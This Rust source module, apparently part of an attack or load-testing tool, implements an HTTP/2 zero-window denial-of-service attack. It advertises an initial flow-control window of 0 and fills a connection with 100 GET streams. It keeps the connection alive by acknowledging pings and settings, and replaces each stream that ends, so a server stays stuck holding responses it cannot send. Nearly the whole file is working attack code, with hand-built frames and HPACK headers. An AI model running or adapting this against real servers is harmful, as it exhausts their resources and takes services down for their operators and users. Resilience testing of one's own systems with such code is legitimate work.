//! HTTP/2 with a window of 0, frame by frame (RFC 9113): streams whose answers the server can make and never send.

use std::io;

use launch_model::attack::ID_HEADER;
use tokio::io::AsyncReadExt;

use super::attacker::Attacker;
use super::door::Door;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Concurrent streams of one connection: the usual limit of servers.
const STREAMS: u32 = 100;
/// `SETTINGS_INITIAL_WINDOW_SIZE` = 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// The longest frame that is read: the size that holds without a setting.
const LONGEST: usize = 16_384;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

impl Attacker {
    /// A connection full of streams, half of which ask for a page of no room, half for the room's. One that ends makes
    /// place for another.
    pub(super) async fn zero_window(&mut self) -> io::Result<()> {
        let mut door = self.open(false).await?;
        door.say(&[PREFACE, &frame(SETTINGS, 0, 0, &NO_WINDOW)].concat()).await?;
        let mut next = 1;
        for _ in 0..STREAMS {
            self.stream(&mut door, &mut next).await?;
        }
        loop {
            let mut head = [0; 9];
            door.stream.read_exact(&mut head).await?;
            let (kind, flags) = (head[3], head[4]);
            let mut payload = vec![0; usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2])];
            if payload.len() > LONGEST {
                return Err(io::ErrorKind::InvalidData.into());
            }
            door.stream.read_exact(&mut payload).await?;
            match kind {
                SETTINGS | PING if flags & ACK == 0 => {
                    let told: &[u8] = if kind == PING { &payload } else { &[] };
                    door.say(&frame(kind, ACK, 0, told)).await?;
                }
                RST_STREAM => self.stream(&mut door, &mut next).await?,
                DATA | HEADERS if flags & END_STREAM != 0 => self.stream(&mut door, &mut next).await?,
                GOAWAY => return Err(io::ErrorKind::ConnectionReset.into()),
                _ => {}
            }
        }
    }

    async fn stream(&mut self, door: &mut Door, next: &mut u32) -> io::Result<()> {
        let inside = (*next / 2) % 2 == 1;
        let path = if inside { self.ground.page.clone() } else { "/".to_owned() };
        let id = self.id();
        // `:method` GET, `:scheme` http, and the rest as literals (RFC 7541, 6.2.2), with names by index or as literals.
        let mut block = vec![0x82, 0x86];
        for (name, value) in [(4, path.as_str()), (1, &self.ground.target.authority)] {
            block.push(name);
            literal(&mut block, value);
        }
        for (name, value) in [("accept", "text/html"), (ID_HEADER, &id)] {
            block.push(0);
            literal(&mut block, name);
            literal(&mut block, value);
        }
        self.tally.asked();
        let frame = frame(HEADERS, END_HEADERS | END_STREAM, *next, &block);
        *next += 2;
        door.say(&frame).await
    }
}

/// A string of less than 127 bytes in HPACK.
fn literal(block: &mut Vec<u8>, text: &str) {
    let text = &text.as_bytes()[..text.len().min(126)];
    block.push(text.len() as u8);
    block.extend_from_slice(text);
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_as_the_protocol_says() {
        assert_eq!(frame(SETTINGS, 0, 0, &NO_WINDOW), [0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0]);
        let mut block = Vec::new();
        literal(&mut block, "/a");
        assert_eq!(block, [2, b'/', b'a']);
    }
}
